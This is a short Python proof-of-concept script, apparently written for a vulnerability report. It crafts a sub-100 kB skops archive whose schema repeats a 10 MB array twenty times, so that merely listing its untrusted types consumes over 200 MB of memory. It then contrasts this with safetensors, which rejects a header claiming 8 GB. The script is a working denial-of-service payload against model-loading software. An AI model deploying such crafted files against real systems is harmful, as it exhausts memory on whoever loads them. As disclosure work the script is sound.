import json
import struct
import tracemalloc
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZipFile

import numpy as np
import skops.io
from safetensors import SafetensorError
from safetensors.numpy import load

zeros = np.zeros(1_250_000)  # 10 MB
skops.io.dump([zeros], "once.skops", compression=ZIP_DEFLATED)
with (
    ZipFile("once.skops") as once,
    ZipFile("bomb.skops", "w", ZIP_DEFLATED) as bomb,
):
    for name in once.namelist():
        data = once.read(name)
        if name == "schema.json":  # now it names the same array 20 times
            schema = json.loads(data)
            array = schema["content"][0]
            schema["content"] = [{**array, "__id__": n} for n in range(1, 21)]
            data = json.dumps(schema)
        bomb.writestr(name, data)

print("bomb.skops")
print("  below 100 kB:", Path("bomb.skops").stat().st_size < 100_000)
tracemalloc.start()
print("  types to review:", skops.io.get_untrusted_types(file="bomb.skops"))
peak = tracemalloc.get_traced_memory()[1]
print("  memory to list them: over 200 MB:", peak > 200_000_000)

claim = {"dtype": "F64", "shape": [10**9], "data_offsets": [0, 8 * 10**9]}
header = json.dumps({"coef": claim}).encode()
try:
    load(struct.pack("<Q", len(header)) + header + bytes(8))
except SafetensorError as error:
    print(f"safetensors: {error}")
